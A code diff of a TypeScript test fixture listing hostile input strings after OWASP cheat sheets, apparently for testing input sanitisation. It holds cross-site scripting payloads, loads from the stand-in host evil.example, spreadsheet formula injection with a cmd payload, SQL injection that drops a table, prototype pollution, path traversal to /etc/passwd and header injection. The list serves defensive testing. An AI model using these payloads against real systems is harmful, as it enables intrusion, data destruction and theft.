@@ -1,76 +1,98 @@
-// Texts that run a script where HTML is not cleaned: after OWASP's cheat sheets on cross-site scripting (prevention,
-// filter evasion, DOM). Each would set `window.attacked` or load something from evil.example.
-const run = 'window.attacked=1'
-
+// Attack texts after OWASP's cheat sheets: cross-site scripting (prevention, filter evasion, DOM), injection, CSV. They are
+// short, so that many fit into one field. What runs sets `window.hit`; what loads is asked from evil.example. No text has
+// control characters that every field refuses (contract/src/field.ts), and none changes when it is normalised.
 export const attackTexts: readonly string[] = [
-  `<script>${run}</script>`,
-  `<SCRIPT>${run}</SCRIPT>`,
-  `<scr<script>ipt>${run}</scr</script>ipt>`,
-  `<script src=//evil.example/x.js></script>`,
-  `<script/src="https://evil.example/x.js"></script>`,
-  `<script\n>${run}</script\t>`,
-  `<<SCRIPT>${run}//\\<</SCRIPT>`,
-  `"><script>${run}</script>`,
-  `'><script>${run}</script>`,
-  `</title><script>${run}</script>`,
-  `</textarea><script>${run}</script>`,
-  `</script><script>${run}</script>`,
-  `<img src=x onerror=${run}>`,
-  `<img src="x" onerror="${run}"/>`,
-  `<IMG SRC=x OnErRoR=${run}>`,
-  `<img/src=x/onerror=${run}>`,
-  `<img src=x onerror\n=${run}>`,
-  `<img src=x onerror\t=\t${run}>`,
-  `<img """><script>${run}</script>">`,
-  `<img src=javascript:${run}>`,
-  `<img src="jav&#x09;ascript:${run}">`,
-  `<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${run}>`,
-  `<img src="https://evil.example/pixel.png">`,
-  `<img srcset="https://evil.example/pixel.png 2x" src=/files/x.webp>`,
-  `<img src=/files/x.webp onload=${run}>`,
-  `<image src=x onerror=${run}>`,
-  `<svg onload=${run}>`,
-  `<svg/onload=${run}//`,
-  `<svg><script>${run}</script></svg>`,
-  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
-  `<svg><a xlink:href="javascript:${run}"><text y=20>a</text></a></svg>`,
-  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
-  `<math href="javascript:${run}">a</math>`,
-  `<body onload=${run}>`,
-  `<iframe src="javascript:${run}"></iframe>`,
-  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
-  `<iframe src=https://evil.example/></iframe>`,
-  `<frameset><frame src="javascript:${run}"></frameset>`,
-  `<object data="javascript:${run}"></object>`,
-  `<object data=https://evil.example/x.swf></object>`,
-  `<embed src="https://evil.example/x.svg">`,
-  `<applet code=x></applet><base href="https://evil.example/">`,
-  `<link rel=stylesheet href=https://evil.example/x.css>`,
-  `<style>@import 'https://evil.example/x.css';</style>`,
-  `<style>*{background:url(https://evil.example/x)}</style>`,
-  `<div style="background-image:url(https://evil.example/x)">a</div>`,
-  `<div style="width:expression(${run})">a</div>`,
-  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
-  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run}</script>">`,
-  `<a href="javascript:${run}" class=bait>tap</a>`,
-  `<a href="&#14;javascript:${run}" class=bait>tap</a>`,
-  `<a href="java\nscript:${run}" class=bait>tap</a>`,
-  `<a href="data:text/html,<script>${run}</script>" class=bait>tap</a>`,
-  `<a href=vbscript:x onmouseover=${run} onfocus=${run} autofocus tabindex=1>tap</a>`,
-  `<form action="javascript:${run}"><button>tap</button></form>`,
-  `<input autofocus onfocus=${run}>`,
-  `<video><source onerror=${run}></video>`,
-  `<audio src=x onerror=${run}></audio>`,
-  `<details open ontoggle=${run}><summary>a</summary></details>`,
-  `<marquee onstart=${run}>a</marquee>`,
-  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
-  `<template><script>${run}</script></template>`,
-  `<xss style="animation-name:x" onanimationstart="${run}"></xss>`,
-  `{{constructor.constructor('${run}')()}}`,
-  `\${${run}}`,
-  `%3Cscript%3E${run}%3C/script%3E`,
-  `&lt;script&gt;${run}&lt;/script&gt;`,
-  `<!--<img src="--><img src=x onerror=${run}//">`,
-  `<![CDATA[<script>${run}</script>]]>`,
+  // Script tags: in capitals, inside each other, after the end of an attribute or of another element.
+  '<script>hit=1</script>',
+  '<ScRiPt\n>hit=1</sCrIpT\t>',
+  '<scr<script>ipt>hit=1</script>',
+  '<script src=//evil.example/x></script>',
+  '"><script>hit=1</script>',
+  '</title><script>hit=1</script>',
+
+  // Event handlers.
+  '<img src=x onerror=hit=1>',
+  '<IMG/SRC=x/OnErRoR\n=hit=1>',
+  '<body onload=hit=1>',
+  '<input autofocus onfocus=hit=1>',
+  '<video><source onerror=hit=1>',
+  '<details open ontoggle=hit=1>',
+  'x" onmouseover=hit=1 y="',
+
+  // Links and forms: javascript:, data:, vbscript:, written in ways that browsers read.
+  '<a href=javascript:hit=1>tap</a>',
+  '<a href="java\tscript:hit=1">tap</a>',
+  '<a href="&#1;javascript:hit=1">tap</a>',
+  '<a href=data:text/html,x>tap</a>',
+  '<a href=vbscript:x>tap</a>',
+  'javascript:hit=1//',
+  '<form action=javascript:hit=1><button>',
+
+  // Frames and other elements that load something.
+  '<iframe src=javascript:hit=1></iframe>',
+  '<iframe srcdoc="<script>top.hit=1</script>">',
+  '<object data=//evil.example/x></object>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content=0;//evil.example>',
+  '<img srcset="//evil.example/x 2x">',
+
+  // SVG and MathML.
+  '<svg onload=hit=1>',
+  '<svg><script>hit=1</script></svg>',
+  '<svg><animate onbegin=hit=1>',
+  '<svg><a xlink:href=javascript:hit=1>tap',
+  '<math href=javascript:hit=1>tap</math>',
+
+  // Mutation: what a parser writes again is read differently.
+  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
+  '<svg></p><style><a id="</style><img src=x onerror=hit=1>">',
+
+  // Encoded twice or for another place.
+  '&lt;script&gt;hit=1&lt;/script&gt;',
+  '%3Cscript%3Ehit=1%3C/script%3E',
+
+  // Templates.
+  "{{constructor.constructor('hit=1')()}}",
+  '${hit=1}',
+  '<%= hit=1 %>',
+
+  // Style sheets.
+  '<style>*{background:url(//evil.example/x)}</style>',
+  '<b style="background:url(//evil.example/x)">',
+
+  // Control characters of C1, direction marks, invisible characters, a line separator.
+  '\u009B31mred\u0085',
+  '\u202Egpj.exe\u202C',
+  '\u2066a\u2069\u200Bb\u2028c',
+
+  // Formulas of spreadsheets.
+  '=HYPERLINK("//evil.example")',
+  "@SUM(1)*cmd|' /C calc'!A0",
+  '+1-1;=1+1',
+
+  // SQL.
+  "'; DROP TABLE member;--",
+  "' OR '1'='1",
+
+  // JSON.
+  '","ok":true,"x":"',
+  '{"__proto__":{"hit":1}}',
+
+  // Markdown.
+  '[tap](javascript:hit=1)',
+  '![x](//evil.example/x)',
+
+  // Paths and header lines.
+  '../../../etc/passwd',
+  'x\r\nSet-Cookie: hit=1',
+
+  // A long word without a break, and combining marks.
+  'W'.repeat(40),
+  `x${'\u030D'.repeat(16)}`,
+
+  // Comments and elements that are never closed. They would swallow what follows, so they are the last.
+  '<![CDATA[',
+  '<textarea>',
+  '<plaintext>',
+  '<!--',
 ]
